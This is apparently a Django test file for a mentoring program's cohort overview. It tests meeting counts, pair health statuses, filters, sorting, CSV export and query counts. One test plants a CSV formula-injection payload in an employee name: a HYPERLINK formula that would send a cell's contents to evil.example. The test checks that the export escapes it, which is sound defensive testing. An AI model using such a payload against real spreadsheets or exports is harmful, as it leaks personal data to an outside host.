"""The cohort overview's numbers, filters, sorting and CSV, and the guard that it never
queries per pair."""

import csv
import datetime
import io

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from goals.models import GoalPlan
from organizations.clock import local_date
from sessions.facts import cohort_pair_facts, expected_meetings
from sessions.health import HealthStatus, first_meeting_due_on
from sessions.models import MeetingStatus
from sessions.overview import CSV_HEADER, cohort_overview, overview_csv
from tests.factories import UserFactory
from tests.frozen_time import clock_from
from tests.goals.factories import GoalFactory, MilestoneFactory
from tests.sessions.factories import (
    AttendanceFactory,
    CheckInFactory,
    LearningSessionFactory,
    MeetingFactory,
    pair_of,
)

NOW = timezone.now()
clock = clock_from(NOW)  # the tests' clock starts at NOW: the data and the pages agree on the day


def _ago(days: int) -> datetime.datetime:
    return NOW - datetime.timedelta(days=days)


def _facts(cohort, pair):
    return next(f for f in cohort_pair_facts(cohort=cohort) if f.pair.pk == pair.pk)


def test_expected_meetings_count_cadences_from_the_later_of_start_and_publishing():
    kwargs = {
        "program_start": datetime.date(2026, 9, 1),
        "program_end": datetime.date(2027, 9, 1),
        "cadence_days": 14,
    }
    assert (
        expected_meetings(published_on=datetime.date(2026, 8, 1), as_of=datetime.date(2026, 9, 29), **kwargs)
        == 2
    )
    assert (
        expected_meetings(published_on=datetime.date(2026, 9, 15), as_of=datetime.date(2026, 9, 28), **kwargs)
        == 0
    )
    assert (
        expected_meetings(published_on=datetime.date(2026, 9, 1), as_of=datetime.date(2030, 1, 1), **kwargs)
        == 26
    )


def test_no_meeting_is_expected_exactly_until_the_first_meeting_is_due():
    program_start, program_end = datetime.date(2026, 9, 1), datetime.date(2027, 9, 1)
    for published_on in (datetime.date(2026, 8, 1), datetime.date(2026, 9, 1), datetime.date(2026, 10, 7)):
        could_meet_from = max(program_start, published_on)
        due_on = first_meeting_due_on(could_meet_from=could_meet_from, cadence_days=14)
        for day in range(-3, 40):
            as_of = could_meet_from + datetime.timedelta(days=day)
            expected = expected_meetings(
                program_start=program_start,
                program_end=program_end,
                published_on=published_on,
                as_of=as_of,
                cadence_days=14,
            )
            assert (expected == 0) == (as_of < due_on), (published_on, as_of)


def test_meetings_held_and_the_last_one_count_only_meetings_that_happened(cohort, pair):
    MeetingFactory(pair=pair, starts_at=_ago(9), status=MeetingStatus.HAPPENED)
    MeetingFactory(pair=pair, starts_at=_ago(2), status=MeetingStatus.HAPPENED)
    MeetingFactory(pair=pair, starts_at=_ago(1), status=MeetingStatus.CANCELLED)
    upcoming = MeetingFactory(
        pair=pair, starts_at=NOW + datetime.timedelta(days=5), status=MeetingStatus.SCHEDULED
    )
    facts = _facts(cohort, pair)
    assert facts.meetings_held == 2
    assert (
        facts.last_meeting_on
        == timezone.localtime(
            _ago(2),
            timezone=cohort.organization and __import__("zoneinfo").ZoneInfo(cohort.organization.timezone),
        ).date()
    )
    assert facts.next_meeting_at == upcoming.starts_at
    assert facts.health.status == HealthStatus.HEALTHY


def test_attendance_counts_ended_sessions_meant_for_each_member(cohort, pair, mentor_member, mentee_member):
    everyone = LearningSessionFactory(cohort=cohort, starts_at=_ago(5))
    mentors = LearningSessionFactory(cohort=cohort, starts_at=_ago(4), audience="mentors")
    LearningSessionFactory(cohort=cohort, starts_at=NOW + datetime.timedelta(days=3))  # not yet
    AttendanceFactory(session=everyone, participant=mentor_member.participant)
    AttendanceFactory(session=mentors, participant=mentor_member.participant)
    facts = _facts(cohort, pair)
    # Expected: mentor 2 (everyone + mentors), mentee 1 (everyone); attended 2 of 3.
    assert (facts.sessions_attended, facts.sessions_expected, facts.attendance_percent) == (2, 3, 67)


def test_check_in_average_and_the_latest_answers_feed_health(cohort, pair, mentor_member, mentee_member):
    MeetingFactory(pair=pair, starts_at=_ago(2))
    CheckInFactory(pair=pair, member=mentor_member, round=1, answered=True, usefulness=5)
    CheckInFactory(pair=pair, member=mentee_member, round=1, answered=True, usefulness=4)
    CheckInFactory(pair=pair, member=mentee_member, round=2, answered=True, usefulness=2)
    CheckInFactory(pair=pair, member=mentor_member, round=2)  # not answered: not counted
    facts = _facts(cohort, pair)
    assert facts.checkin_average == 3.7
    assert sorted(a.usefulness for a in facts.latest_answers) == [2, 5]
    assert facts.health.status == HealthStatus.AT_RISK
    assert "rated the relationship 2 out of 5" in facts.health.reasons[0]


def test_goal_progress_and_overdue_milestones_come_from_the_goals_app(cohort, pair, mentee_member):
    MeetingFactory(pair=pair, starts_at=_ago(2))
    goal = GoalFactory(plan=GoalPlan.objects.create(organization=cohort.organization, member=mentee_member))
    today = timezone.localdate()
    MilestoneFactory(goal=goal, due_date=today - datetime.timedelta(days=3))
    MilestoneFactory(goal=goal, due_date=today - datetime.timedelta(days=1))
    MilestoneFactory(goal=goal, due_date=today - datetime.timedelta(days=9), completed_at=NOW)
    MilestoneFactory(goal=goal, due_date=today + datetime.timedelta(days=9))
    facts = _facts(cohort, pair)
    assert (facts.goals.milestones_percent, facts.goals.overdue_milestones) == (25, 2)
    assert facts.health.status == HealthStatus.AT_RISK


def test_a_pair_that_never_met_a_month_after_publishing_is_stalled(cohort, mentor, mentee):
    pair = pair_of(mentor, mentee, cohort, published_at=_ago(31))
    assert _facts(cohort, pair).health.status == HealthStatus.STALLED


def test_a_pair_published_today_is_not_started_with_its_first_meeting_due_one_cadence_later(cohort, pair):
    new = pair_of(UserFactory(), UserFactory(), cohort, published_at=NOW)
    fact = _facts(cohort, new)
    today = local_date(NOW, cohort.organization)
    assert (fact.health.status, fact.health.reasons) == (HealthStatus.NOT_STARTED, ())
    assert (fact.meetings_expected, fact.could_meet_from) == (0, today)
    assert fact.first_meeting_due_on == today + datetime.timedelta(days=14)


def test_a_pair_matched_before_the_program_starts_is_not_started_until_a_cadence_into_it(cohort, pair):
    program = cohort.program
    program.start_date = timezone.localdate() + datetime.timedelta(days=5)
    program.save(update_fields=["start_date"])
    fact = _facts(cohort, pair)  # published ten days ago
    assert fact.health.status == HealthStatus.NOT_STARTED
    assert fact.first_meeting_due_on == program.start_date + datetime.timedelta(days=14)


def test_not_started_pairs_have_their_own_count_filter_and_come_last_worst_first(cohort, pair):
    # ``pair`` was published ten days ago and never met: its first meeting is due in four days.
    healthy = pair_of(UserFactory(), UserFactory(), cohort, published_at=_ago(20))
    MeetingFactory(pair=healthy, starts_at=_ago(5))
    stalled = pair_of(UserFactory(), UserFactory(), cohort, published_at=_ago(60))
    overview = cohort_overview(cohort=cohort)
    assert overview.counts == {"not_started": 1, "healthy": 1, "at_risk": 0, "stalled": 1}
    assert [r.pair for r in overview.rows] == [stalled, healthy, pair]
    assert [r.pair for r in cohort_overview(cohort=cohort, health=HealthStatus.NOT_STARTED).rows] == [pair]
    assert cohort_overview(cohort=cohort, health=HealthStatus.HEALTHY).rows[0].pair == healthy


def test_the_csv_says_not_started_and_when_the_first_meeting_is_due(cohort, pair):
    rows = list(csv.DictReader(io.StringIO(overview_csv(cohort_overview(cohort=cohort)))))
    due = (local_date(NOW, cohort.organization) + datetime.timedelta(days=4)).isoformat()
    assert [(r["health"], r["meetings_expected"], r["first_meeting_expected_by"]) for r in rows] == [
        ("not_started", "0", due)
    ]
    assert rows[0]["health_reasons"] == ""


def _pairs(cohort, n: int, **kwargs):
    return [
        pair_of(UserFactory(), UserFactory(), cohort, published_at=_ago(3 + i), **kwargs) for i in range(n)
    ]


def test_filters_keep_one_health_or_one_mentor_department(cohort, pair):
    stalled = pair_of(UserFactory(), UserFactory(), cohort, published_at=_ago(60))
    MeetingFactory(pair=pair, starts_at=_ago(2))
    overview = cohort_overview(cohort=cohort, health=HealthStatus.STALLED)
    assert [row.pair for row in overview.rows] == [stalled]
    assert overview.counts == {"not_started": 0, "healthy": 1, "at_risk": 0, "stalled": 1}
    assert overview.departments == ["Finance"]
    assert cohort_overview(cohort=cohort, department="Finance").total == 2
    assert cohort_overview(cohort=cohort, department="Legal").rows == []


def test_sorting_by_health_puts_the_worst_first_and_can_be_reversed(cohort, pair):
    stalled = pair_of(UserFactory(), UserFactory(), cohort, published_at=_ago(60))
    MeetingFactory(pair=pair, starts_at=_ago(2))
    assert [r.pair for r in cohort_overview(cohort=cohort).rows] == [stalled, pair]
    assert [r.pair for r in cohort_overview(cohort=cohort, descending=True).rows] == [pair, stalled]
    assert [r.pair for r in cohort_overview(cohort=cohort, sort="last_meeting").rows] == [stalled, pair]
    assert cohort_overview(cohort=cohort, sort="nonsense").sort == "health"


def test_the_csv_has_a_row_per_pair_with_metadata_columns(cohort, pair):
    MeetingFactory(pair=pair, starts_at=_ago(2), topics="TOPIC TEXT", shared_notes="NOTE TEXT")
    text = overview_csv(cohort_overview(cohort=cohort))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == CSV_HEADER
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["pair_id"], row["meetings_held"], row["health"]) == (str(pair.pk), "1", "healthy")
    assert "TOPIC" not in text and "NOTE" not in text


def test_a_roster_name_written_as_a_formula_is_only_text_in_the_csv(cohort, pair):
    member = pair.members.select_related("participant__employee").first()
    employee = member.participant.employee
    employee.name = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
    employee.save(update_fields=["name"])
    rows = list(csv.reader(io.StringIO(overview_csv(cohort_overview(cohort=cohort)))))
    cells = [cell for cell in rows[1] if "HYPERLINK" in cell]
    assert cells == ["'" + employee.name]


def test_the_overview_never_queries_per_pair(cohort):
    def add(n_pairs: int) -> None:
        for p in _pairs(cohort, n_pairs):
            MeetingFactory(pair=p, starts_at=_ago(2))
            CheckInFactory(pair=p, answered=True)
        LearningSessionFactory(cohort=cohort, starts_at=_ago(3))

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            overview_csv(cohort_overview(cohort=cohort))
        return len(queries)

    add(1)
    count()  # the first look makes the program's mentoring settings
    add(1)
    with_two = count()
    add(6)
    assert count() == with_two
    assert with_two <= 13  # with the two reads of the flags a manager acts on


def test_a_completed_cohort_is_judged_as_of_its_programs_last_day(cohort, pair):
    from cohorts.models import CohortStatus

    program = cohort.program
    MeetingFactory(pair=pair, starts_at=_ago(200))
    program.end_date = (timezone.now() - datetime.timedelta(days=190)).date()
    program.save(update_fields=["end_date"])
    cohort.status = CohortStatus.COMPLETED
    cohort.save(update_fields=["status"])
    [judged_today] = cohort_pair_facts(cohort=cohort, as_of=timezone.localdate())
    [fact] = cohort_pair_facts(cohort=cohort)
    assert judged_today.health.status == HealthStatus.STALLED  # what today's clock would say
    assert fact.health.status != HealthStatus.STALLED
